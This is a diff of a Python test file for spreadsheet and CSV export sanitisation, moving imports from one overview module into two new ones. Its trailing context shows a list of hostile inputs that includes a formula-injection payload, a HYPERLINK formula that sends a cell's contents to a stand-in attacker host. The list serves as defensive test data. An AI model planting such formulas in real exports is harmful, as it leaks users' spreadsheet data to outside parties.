@@ -16,8 +16,8 @@ import pytest
 from exports.cells import FORMULA_STARTS, csv_text, safe_cell, safe_text
 from exports.citizen_copy import build_citizen_copy_zip
 from exports.spreadsheets import overview_csv, overview_xlsx
-from models.overview import (
-    OVERALL,
+from models.overview import Overview
+from models.overview_counting import (
     ConsentRow,
     LoadRow,
     MatrixCell,
@@ -25,11 +25,10 @@ from models.overview import (
     MeetingRow,
     NeedRow,
     OnTimeRow,
-    Overview,
     OwnerChangeRow,
-    Period,
     ScoreRow,
 )
+from models.overview_lookups import OVERALL, Period
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?d="&A1,"klik")',  # sends a click (and a cell) anywhere
